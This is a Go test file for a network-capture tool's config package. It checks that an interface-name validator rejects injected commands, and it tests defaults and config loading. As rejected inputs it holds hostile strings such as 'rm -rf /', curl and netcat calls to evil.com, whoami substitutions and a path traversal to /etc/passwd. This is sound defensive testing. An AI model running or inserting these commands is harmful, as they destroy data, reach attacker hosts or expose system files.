package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestValidateInterfaceName(t *testing.T) {
	tests := []struct {
		name      string
		input     string
		wantError bool
		errorMsg  string
	}{
		// Valid interface names
		{"valid basic interface", "eth0", false, ""},
		{"valid wireless interface", "wlan0", false, ""},
		{"valid interface with dash", "en0-1", false, ""},
		{"valid interface with underscore", "eth_0", false, ""},
		{"valid interface with dot", "eth0.100", false, ""},
		{"valid complex interface", "veth123_test-1.vlan", false, ""},

		// Invalid interface names - these end up on a subprocess command line
		{"empty string", "", true, "interface name cannot be empty"},
		{"command injection semicolon", "eth0; rm -rf /", true, "interface name contains invalid characters"},
		{"command injection ampersand", "eth0 && curl evil.com", true, "interface name contains invalid characters"},
		{"command injection pipe", "eth0|nc evil.com 1234", true, "interface name contains invalid characters"},
		{"command injection backtick", "eth0`whoami`", true, "interface name contains invalid characters"},
		{"command injection dollar", "eth0$(whoami)", true, "interface name contains invalid characters"},
		{"path traversal", "../../../etc/passwd", true, "interface name contains invalid characters"},
		{"forward slash", "eth0/test", true, "interface name contains invalid characters"},
		{"backslash", "eth0\\test", true, "interface name contains invalid characters"},
		{"space", "eth0 test", true, "interface name contains invalid characters"},
		{"newline", "eth0\ntest", true, "interface name contains invalid characters"},
		{"invalid character @", "eth0@test", true, "interface name contains invalid characters"},
		{"invalid character *", "eth0*test", true, "interface name contains invalid characters"},

		// Length validation
		{"too long", strings.Repeat("a", 256), true, "interface name too long: 256 characters"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateInterfaceName(tt.input)
			if tt.wantError {
				if err == nil {
					t.Errorf("validateInterfaceName(%q) expected error but got nil", tt.input)
				} else if tt.errorMsg != "" && !strings.Contains(err.Error(), tt.errorMsg) {
					t.Errorf("validateInterfaceName(%q) error = %v, expected to contain %q", tt.input, err, tt.errorMsg)
				}
			} else {
				if err != nil {
					t.Errorf("validateInterfaceName(%q) unexpected error = %v", tt.input, err)
				}
			}
		})
	}
}

func TestGetFirstInterface(t *testing.T) {
	tests := []struct {
		name          string
		interfaceSpec string
		expectedIface string
		expectedError bool
		errorContains string
	}{
		{"empty interface defaults to any", "", "any", false, ""},
		{"single valid interface", "eth0", "eth0", false, ""},
		{"special case any", "any", "any", false, ""},
		{"special case all", "all", "all", false, ""},
		{"comma separated interfaces", "eth0,wlan0,en0", "eth0", false, ""},
		{"comma separated with spaces", "eth0, wlan0, en0", "eth0", false, ""},
		{"empty first segment, valid second", ",eth0,wlan0", "eth0", false, ""},
		{"all empty segments default to any", ",,,", "any", false, ""},
		{"any first in comma list", "any,eth0", "any", false, ""},

		{"command injection in first interface", "eth0; rm -rf /", "", true, "invalid interface 'eth0; rm -rf /'"},
		{"path traversal", "../../../etc/passwd", "", true, "invalid interface '../../../etc/passwd'"},
		{"too long interface", strings.Repeat("a", 256), "", true, "invalid interface"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := &Config{}
			cfg.Capture.Interface = tt.interfaceSpec

			iface, err := cfg.GetFirstInterface()
			if tt.expectedError {
				if err == nil {
					t.Errorf("GetFirstInterface(%q) expected error but got nil, result: %s", tt.interfaceSpec, iface)
				} else if tt.errorContains != "" && !strings.Contains(err.Error(), tt.errorContains) {
					t.Errorf("GetFirstInterface(%q) error = %v, expected to contain %q", tt.interfaceSpec, err, tt.errorContains)
				}
			} else {
				if err != nil {
					t.Errorf("GetFirstInterface(%q) unexpected error = %v", tt.interfaceSpec, err)
				} else if iface != tt.expectedIface {
					t.Errorf("GetFirstInterface(%q) = %q, expected %q", tt.interfaceSpec, iface, tt.expectedIface)
				}
			}
		})
	}
}

func TestGetAllInterfaces(t *testing.T) {
	tests := []struct {
		name               string
		interfaceSpec      string
		expectedInterfaces []string
		expectedError      bool
	}{
		{"empty spec defaults to any", "", []string{"any"}, false},
		{"single interface", "eth0", []string{"eth0"}, false},
		{"multiple interfaces", "eth0,wlan0", []string{"eth0", "wlan0"}, false},
		{"mixed with any", "any,eth0", []string{"any", "eth0"}, false},
		{"malicious second interface", "eth0,wlan0; rm -rf /", nil, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := &Config{}
			cfg.Capture.Interface = tt.interfaceSpec

			interfaces, err := cfg.GetAllInterfaces()
			if tt.expectedError {
				if err == nil {
					t.Errorf("GetAllInterfaces(%q) expected error but got nil, result: %v", tt.interfaceSpec, interfaces)
				}
				return
			}
			if err != nil {
				t.Errorf("GetAllInterfaces(%q) unexpected error = %v", tt.interfaceSpec, err)
				return
			}
			if len(interfaces) != len(tt.expectedInterfaces) {
				t.Errorf("GetAllInterfaces(%q) = %v, expected %v", tt.interfaceSpec, interfaces, tt.expectedInterfaces)
				return
			}
			for i, want := range tt.expectedInterfaces {
				if interfaces[i] != want {
					t.Errorf("GetAllInterfaces(%q)[%d] = %q, expected %q", tt.interfaceSpec, i, interfaces[i], want)
				}
			}
		})
	}
}

func TestConfig_ValidateAndSetDefaults(t *testing.T) {
	cfg := &Config{}
	cfg.ValidateAndSetDefaults()

	if cfg.Capture.Interface != "any" {
		t.Errorf("Expected default interface to be 'any', got %q", cfg.Capture.Interface)
	}
	if cfg.Logging.Level != "info" {
		t.Errorf("Expected default log level to be 'info', got %q", cfg.Logging.Level)
	}
	if cfg.Capture.SliceSeconds != 60 {
		t.Errorf("Expected default slice of 60s, got %d", cfg.Capture.SliceSeconds)
	}
	if cfg.Capture.Slots != 20 {
		t.Errorf("Expected default of 20 slots, got %d", cfg.Capture.Slots)
	}
	if cfg.Window.PastSeconds != 600 || cfg.Window.FutureSeconds != 600 {
		t.Errorf("Expected default 600s windows, got past=%d future=%d", cfg.Window.PastSeconds, cfg.Window.FutureSeconds)
	}
	if cfg.Window.MaxInFlight != 64 {
		t.Errorf("Expected default in-flight cap of 64, got %d", cfg.Window.MaxInFlight)
	}
	if cfg.Retention() != 1200 {
		t.Errorf("Expected 1200s retention from defaults, got %d", cfg.Retention())
	}
}

func TestLoadConfig(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "config.json")
	content := `{
		"logging": {"level": "debug"},
		"capture": {"interface": "eth0", "slice_seconds": 30, "slots": 10},
		"window": {"past_seconds": 300},
		"output": {"dir": "/var/lib/webreplay"},
		"trigger": {"log_path": "/var/log/alerts.log", "match": "ALERT"}
	}`
	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
		t.Fatalf("failed to write config fixture: %v", err)
	}

	cfg, err := LoadConfig(path)
	if err != nil {
		t.Fatalf("LoadConfig failed: %v", err)
	}

	if cfg.Logging.Level != "debug" {
		t.Errorf("Expected debug level, got %q", cfg.Logging.Level)
	}
	if cfg.Capture.Interface != "eth0" {
		t.Errorf("Expected eth0, got %q", cfg.Capture.Interface)
	}
	if cfg.Retention() != 300 {
		t.Errorf("Expected 300s retention, got %d", cfg.Retention())
	}
	if cfg.Window.PastSeconds != 300 {
		t.Errorf("Expected 300s past window, got %d", cfg.Window.PastSeconds)
	}
	// Unspecified sections still get defaults.
	if cfg.Window.FutureSeconds != 600 {
		t.Errorf("Expected default future window, got %d", cfg.Window.FutureSeconds)
	}
	if cfg.Trigger.PollMS != 1000 {
		t.Errorf("Expected default poll interval, got %d", cfg.Trigger.PollMS)
	}
}

func TestLoadConfigMissingFile(t *testing.T) {
	if _, err := LoadConfig("/no/such/config.json"); err == nil {
		t.Error("Expected error for missing config file")
	}
}
